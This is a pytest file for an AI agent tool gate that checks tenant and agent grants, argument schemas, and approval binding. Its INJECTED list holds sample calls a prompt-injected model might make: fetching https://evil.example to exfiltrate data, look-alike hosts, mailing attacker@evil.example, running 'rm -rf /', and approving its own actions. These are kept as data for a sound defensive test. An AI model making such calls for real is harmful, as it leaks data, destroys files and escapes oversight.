"""The tool registry, a run's frozen capabilities and the gate, pure: saas refuses dangerous
tools at registration and at start; a run's tools are the agent's grants ∩ the tenant's ∩ the
registry; every denial names its rule; approvals are bound to the exact arguments; and a
scripted compromised model that obeys every injected instruction gets none of them done."""

from __future__ import annotations

from typing import Any
from uuid import uuid4

import pytest

from tenantguard.tools.capabilities import (
    GrantInvalid,
    RunCapabilities,
    ToolGrant,
    freeze,
    parse_grants,
)
from tenantguard.tools.gate import call_hash, decide
from tenantguard.tools.registry import (
    ArgumentConstraint,
    ToolForbidden,
    ToolInvalid,
    ToolRegistry,
    check_for_mode,
    tool,
)

FETCH = tool(
    "web_fetch",
    "Fetch a web page (through the egress guard).",
    {"network"},
    {
        "type": "object",
        "properties": {"url": {"type": "string", "maxLength": 2048}},
        "required": ["url"],
        "additionalProperties": False,
    },
    [ArgumentConstraint("url", "domain")],
)
SEND = tool(
    "send_message",
    "Send a message.",
    {"messaging"},
    {
        "type": "object",
        "properties": {
            "to": {"type": "array", "items": {"type": "string"}, "minItems": 1},
            "body": {"type": "string", "maxLength": 10000},
        },
        "required": ["to", "body"],
        "additionalProperties": False,
    },
    [ArgumentConstraint("to", "recipient")],
)
DELETE = tool(
    "memory_delete",
    "Delete a memory entry.",
    {"memory", "destructive"},
    {
        "type": "object",
        "properties": {"key": {"type": "string"}},
        "required": ["key"],
        "additionalProperties": False,
    },
)
READ = tool(
    "memory_read",
    "Read a memory entry.",
    {"memory"},
    {
        "type": "object",
        "properties": {"key": {"type": "string"}},
        "required": ["key"],
        "additionalProperties": False,
    },
)
SHELL = tool(
    "shell",
    "Run a command in the tenant's workspace.",
    {"shell"},
    {
        "type": "object",
        "properties": {"command": {"type": "string"}},
        "additionalProperties": False,
    },
)


def _registry(mode: str = "saas") -> ToolRegistry:
    registry = ToolRegistry(mode)
    for spec in (FETCH, SEND, DELETE, READ):
        registry.register(spec)
    return registry


def _run(registry: ToolRegistry | None = None) -> RunCapabilities:
    agent = parse_grants(
        {
            "web_fetch": {"domains": ["docs.example.com", "*.acme.example"]},
            "send_message": {"recipients": ["ops@acme.example"]},
            "memory_delete": {},
            "memory_read": {},
        },
        layer="agent",
    )
    tenant = parse_grants(
        {
            "web_fetch": {"domains": ["*.acme.example", "docs.example.com", "wiki.example.com"]},
            "send_message": {"recipients": ["ops@acme.example", "ceo@acme.example"]},
            "memory_delete": {},
        },  # memory_read is not granted by the tenant: not in the run
        layer="tenant",
    )
    return freeze(agent, tenant, registry or _registry())


def test_saas_refuses_dangerous_tools_at_registration_and_at_start() -> None:
    with pytest.raises(ToolForbidden, match="shell"):
        _registry("saas").register(SHELL)
    hosted = _registry("self_hosted")
    hosted.register(SHELL)
    check_for_mode(hosted, "self_hosted")
    with pytest.raises(ToolForbidden):
        check_for_mode(hosted, "saas")  # built for another mode
    smuggled = _registry("saas")
    smuggled._tools["shell"] = SHELL  # filled by other means than register
    with pytest.raises(ToolForbidden, match="start"):
        check_for_mode(smuggled, "saas")


@pytest.mark.parametrize(
    ("name", "capabilities", "schema", "constraints"),
    [
        ("Web-Fetch", {"network"}, {"type": "object", "additionalProperties": False}, []),
        ("fetch", {"teleport"}, {"type": "object", "additionalProperties": False}, []),
        ("fetch", {"network"}, {"type": "object"}, []),  # open to any argument
        ("fetch", {"network"}, {"type": "string"}, []),
        ("fetch", {"network"}, {"type": "object", "additionalProperties": 3}, []),
        (
            "fetch",
            {"network"},
            {"type": "object", "properties": {}, "additionalProperties": False},
            [ArgumentConstraint("url", "domain")],  # on an undeclared argument
        ),
    ],
)
def test_bad_declarations_are_refused(
    name: str, capabilities: set[str], schema: dict[str, Any], constraints: list[ArgumentConstraint]
) -> None:
    with pytest.raises(ToolInvalid):
        tool(name, "x", capabilities, schema, constraints)


def test_a_tool_name_is_registered_once() -> None:
    with pytest.raises(ToolInvalid, match="already"):
        _registry().register(FETCH)


def test_the_run_holds_the_intersection_of_agent_tenant_and_registry() -> None:
    smaller = ToolRegistry("saas")
    smaller.register(FETCH)
    smaller.register(DELETE)
    assert _run().names == {"web_fetch", "send_message", "memory_delete"}
    assert _run(smaller).names == {"web_fetch", "memory_delete"}
    run = _run()
    assert run.allows_domain("web_fetch", "docs.example.com")
    assert run.allows_domain("web_fetch", "api.acme.example")
    assert not run.allows_domain("web_fetch", "wiki.example.com")  # the tenant's only
    assert not run.allows_domain("web_fetch", "acme.example")  # *.x is for subdomains
    assert run.allows_recipient("send_message", "OPS@acme.example")
    assert not run.allows_recipient("send_message", "ceo@acme.example")  # the tenant's only
    assert RunCapabilities.from_json(run.as_json()) == run


def test_only_the_tenant_may_preapprove_and_grants_are_checked() -> None:
    with pytest.raises(GrantInvalid, match="tenant"):
        parse_grants({"memory_delete": {"preapproved": True}}, layer="agent")
    bad_documents: list[object] = [
        [],
        {"x": []},
        {"x": {"domains": "a.example"}},
        {"x": {"widen": True}},
    ]
    for bad in bad_documents:
        with pytest.raises(GrantInvalid):
            parse_grants(bad, layer="tenant")


def _decide(tool_name: str, arguments: dict[str, Any], **kwargs: Any) -> tuple[str, str]:
    run = kwargs.pop("run", _run())
    decision = decide(
        run, _registry(), run_id=RUN_ID, tool=tool_name, arguments=arguments, **kwargs
    )
    return decision.outcome, decision.rule


RUN_ID = uuid4()


def test_allowed_work_succeeds() -> None:
    assert _decide("web_fetch", {"url": "https://docs.example.com/guide"}) == ("allow", "granted")
    assert _decide("send_message", {"to": ["ops@acme.example"], "body": "done"}) == (
        "allow",
        "granted",
    )


EVIL = "attacker@evil.example"
# Injected goals a scripted compromised model obeys, the call it makes, and the rule that stops it.
INJECTED: list[tuple[str, str, dict[str, Any], str]] = [
    ("exfiltrate to an attacker URL", "web_fetch", {"url": "https://evil.example/?d=all"},
     "domain_not_allowed"),
    ("a look-alike host", "web_fetch", {"url": "https://docs.example.com.evil.example/"},
     "domain_not_allowed"),
    ("a userinfo trick", "web_fetch", {"url": "https://docs.example.com@evil.example/"},
     "domain_not_allowed"),
    ("not a URL", "web_fetch", {"url": "javascript:alert(1)"}, "domain_not_allowed"),
    ("an extra argument", "web_fetch", {"url": "https://docs.example.com/", "proxy": "evil"},
     "arguments_invalid"),
    ("message an unlisted recipient", "send_message", {"to": [EVIL], "body": "customer list"},
     "recipient_not_allowed"),
    ("hide one among allowed", "send_message", {"to": ["ops@acme.example", EVIL], "body": "x"},
     "recipient_not_allowed"),
    ("call a shell", "shell", {"command": "rm -rf /"}, "tool_not_granted"),
    ("a tool the tenant did not grant", "memory_read", {"key": "x"}, "tool_not_granted"),
    ("raise its own budget", "raise_budget", {"to": 1000000}, "tool_not_granted"),
    ("approve its own call", "approve", {"call": "x"}, "tool_not_granted"),
    ("delete everything", "memory_delete", {"key": "*"}, "needs_approval"),
    ("a float that is not JSON", "web_fetch", {"url": float("nan")}, "arguments_invalid"),
]  # fmt: skip


@pytest.mark.parametrize(("goal", "tool_name", "arguments", "rule"), INJECTED)
def test_a_compromised_model_gets_no_injected_goal_done(
    goal: str, tool_name: str, arguments: dict[str, Any], rule: str
) -> None:
    outcome, decided = _decide(tool_name, arguments)
    assert outcome != "allow", goal
    assert decided == rule


def test_an_approval_is_bound_to_the_exact_call() -> None:
    arguments = {"key": "old-notes"}
    approved = frozenset({call_hash(RUN_ID, "memory_delete", arguments)})
    assert _decide("memory_delete", arguments, approved=approved) == ("allow", "approved")
    assert _decide("memory_delete", {"key": "everything"}, approved=approved)[0] == "approval"
    other_run = decide(
        _run(),
        _registry(),
        run_id=uuid4(),
        tool="memory_delete",
        arguments=arguments,
        approved=approved,
    )
    assert other_run.outcome == "approval"  # another run: another hash


def test_a_tenant_rule_may_preapprove() -> None:
    agent = parse_grants({"memory_delete": {}}, layer="agent")
    tenant = parse_grants({"memory_delete": {"preapproved": True}}, layer="tenant")
    run = freeze(agent, tenant, _registry())
    assert _decide("memory_delete", {"key": "x"}, run=run) == ("allow", "preapproved")


def test_invalid_arguments_name_paths_never_values() -> None:
    decision = decide(
        _run(),
        _registry(),
        run_id=RUN_ID,
        tool="send_message",
        arguments={"to": ["ops@acme.example", 7], "body": "secret text " * 2000},
    )
    assert decision.rule == "arguments_invalid"
    assert decision.paths == ("/body", "/to/1")
    assert "secret" not in repr(decision)


def test_grants_cannot_be_widened_after_freezing() -> None:
    run = _run()
    with pytest.raises(TypeError):
        run.tools["shell"] = (ToolGrant("shell"), ToolGrant("shell"))  # type: ignore[index]
    with pytest.raises(AttributeError):
        run.tools["web_fetch"][0].domains.add("evil.example")  # type: ignore[attr-defined]
